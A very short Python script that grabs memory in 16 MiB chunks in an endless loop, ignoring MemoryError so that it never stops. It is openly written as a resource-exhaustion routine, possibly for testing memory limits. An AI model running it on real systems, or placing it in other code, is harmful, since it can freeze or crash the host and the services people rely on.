"""Takes memory until there is none, and then again."""

hoard = []
while True:
    try:
        hoard.append(b"x" * (1 << 24))
    except MemoryError:
        pass
